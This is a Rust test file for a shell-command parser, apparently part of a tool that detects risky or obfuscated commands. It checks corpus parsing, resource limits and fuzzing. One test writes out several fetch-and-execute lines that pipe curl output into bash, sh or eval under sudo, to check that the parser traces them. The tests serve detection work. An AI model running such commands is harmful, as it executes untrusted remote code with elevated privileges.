//! Command lines and the programs in them: the corpus in `tests/processor/shell/`, and properties.

use bumpalo::Bump;
use proptest::prelude::*;

use super::*;

fn commands(line: &str) -> Vec<String> {
    let arena = Bump::new();
    let mut event = Event::default();
    analyse(arena.alloc_str(line), &mut event, &arena);
    event.commands().iter().map(|command| command.text.to_owned()).collect()
}

/// Lines of the corpus: `line => command | command`, with `\n` for a line's end; `!x` names a trick.
fn check(line: &str, expected: &str) -> Option<String> {
    let arena = Bump::new();
    let mut event = Event::default();
    analyse(arena.alloc_str(&line.replace("\\n", "\n")), &mut event, &arena);
    let found: Vec<&str> = event.commands().iter().map(|command| command.text).collect();
    let missing = expected.split(" ;; ").find(|part| match part.trim().strip_prefix('!') {
        Some(trick) => !event.has(Field::CmdTrick, trick) && !event.has(Field::CmdParse, trick),
        None => !found.contains(&part.trim()),
    })?;
    Some(format!("{line}\n    no `{missing}` in {found:?} {:?}", event.values(Field::CmdTrick)))
}

#[test]
fn every_line_of_the_corpus_shows_its_commands() {
    let corpus = include_str!("../../../../tests/processor/shell/commands.txt");
    let cases = corpus.lines().filter(|line| !line.is_empty() && !line.starts_with("# "));
    let wrong: Vec<String> =
        cases.filter_map(|case| case.split_once(" => ")).filter_map(|(line, expected)| check(line, expected)).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn everyday_commands_are_read_to_their_end_and_hide_nothing() {
    let corpus = include_str!("../../../../tests/processor/risk/benign.commands");
    let arena = Bump::new();
    let mut event = Event::default();
    for line in corpus.lines() {
        event.clear();
        analyse(line, &mut event, &arena);
        assert!(event.has(Field::CmdParse, "ok"), "{line}");
        assert_eq!(event.values(Field::CmdTrick), [] as [&str; 0], "{line}");
    }
}

#[test]
fn long_lines_of_every_kind_end_within_the_allowance() {
    for unit in [
        "a ",
        "$(",
        "${",
        "`",
        "((",
        "{a,b}",
        "'",
        "\"$(",
        "<<E ",
        "x=$x$x;",
        "a|",
        "\\",
        "$'\\x",
        "eval ",
        "sudo ",
        "{",
        "[[ ",
        "case x in ",
        "if ",
        "f(){ ",
        "<(",
        "echo $(",
        "a=(",
        "bash -c '",
        "xargs ",
        "\"",
        "$((",
        "cat <<E\n",
        "rm\n",
    ] {
        let line = unit.repeat(100_000 / unit.len());
        let arena = Bump::new();
        let mut event = Event::default();
        analyse(&line, &mut event, &arena);
        assert!(event.commands().len() <= COMMANDS_MAX);
        assert!(arena.allocated_bytes() < 16 << 20, "{unit}: {} bytes", arena.allocated_bytes());
    }
}

#[test]
fn a_pipe_knows_who_reads_it() {
    let arena = Bump::new();
    let mut event = Event::default();
    for line in [
        "curl -s http://x | sudo bash",
        "bash <(curl -s http://x)",
        "sh -c \"$(curl -s http://x)\"",
        "eval `curl http://x`",
    ] {
        event.clear();
        analyse(line, &mut event, &arena);
        let curl = event.commands().iter().find(|command| command.program == "curl").unwrap();
        let reader = event.commands()[curl.pipes_to.unwrap()].program;
        assert!(matches!(reader, "bash" | "sh" | "eval"), "{line}: {reader}");
    }
}

proptest! {
    #[test]
    fn no_text_is_too_strange(line in "\\PC*") {
        commands(&line);
    }

    #[test]
    fn no_mixture_of_operators_is_too_strange(parts in prop::collection::vec(prop::sample::select(vec![
        "a", " ", "$(", ")", "`", "'", "\"", "$", "{", "}", ",", "\\", "\n", ";", "&", "|", "<", ">", "<<E", "E", "(", "#", "=", "x=1",
        "if", "then", "fi", "for", "in", "do", "done", "case", "esac", ";;", "[[", "]]", "bash -c", "sudo", "xargs", "echo", "base64 -d",
        "${x", ":", "-", "*", "?", "$'", "\\x41", "é", "сu", "printf", "%s", "python -c", "system(", "find . -exec", "ssh h", "!",
    ]), 0..40)) {
        commands(&parts.concat());
        commands(&parts.join(" "));
    }
}
